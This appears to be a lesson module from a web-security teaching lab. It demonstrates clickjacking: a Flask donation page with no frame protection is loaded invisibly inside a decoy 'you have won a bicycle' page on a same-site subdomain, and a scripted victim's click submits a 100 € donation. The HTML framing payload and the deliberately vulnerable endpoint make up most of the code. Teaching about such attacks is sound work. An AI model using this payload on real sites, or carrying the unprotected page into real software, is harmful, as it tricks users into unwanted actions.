"""A thief's page shows the shop in a frame that nobody sees, and the visitor clicks what is in it.

A colleague has added /donate, with a button and its token. The thief has taken over blog.shop.test. For a browser, that
is the same site as www.shop.test, so the frame gets the visitor's cookies.
"""

from __future__ import annotations

from flask import request, session
from flask_wtf.csrf import generate_csrf

from app.visitors import public
from tools.lessons.lab import Lab

PAGE = """<!doctype html><style>* {{ position: absolute; top: 0; left: 0; width: 500px; font: 30px sans-serif }}
iframe {{ opacity: {opacity}; height: 300px; border: 0 }} a {{ top: 108px; color: green }}</style>
<p>You have won a bicycle.</p><a>Click here to get it</a><iframe src="{url}/donate"></iframe>"""


@public
def donate() -> str:
    """Show a button, and give 100 € when it is pressed."""
    if request.method == "POST":
        session["given"] = session.get("given", 0) + 100
    return f"""<!doctype html><p>You have given {session.get("given", 0)} €.</p><form method="post">
    <input type="hidden" name="csrf_token" value="{generate_csrf()}"><br><br><br>
    <button>Give 100 € to the thief</button></form>"""


PAGES = {"/donate": donate}


def attack(lab: Lab) -> str:
    """Return what was stolen; "" for nothing."""
    with lab.serve(PAGES) as shop, lab.evil_site() as evil:
        alice = shop.visitor()
        alice.get("/donate")
        with lab.browser(alice) as page:
            page.goto(evil.page(PAGE.format(url=shop.url, opacity=0.3), "blog.shop.test"))
            print("Alice opens a page of blog.shop.test: she has won a bicycle. (The picture shows the frame faintly.)")
            page.mouse.click(80, 126)
            print("She clicks.")
            page.wait_for_timeout(700)  # milliseconds for the frame to send its form
            lab.photograph(page)
            page.goto(f"{shop.url}/donate")
            given = page.inner_text("p")
    print(f"The shop says to her: {given}")
    return "Alice has given 100 € to the thief." if "100" in given else ""
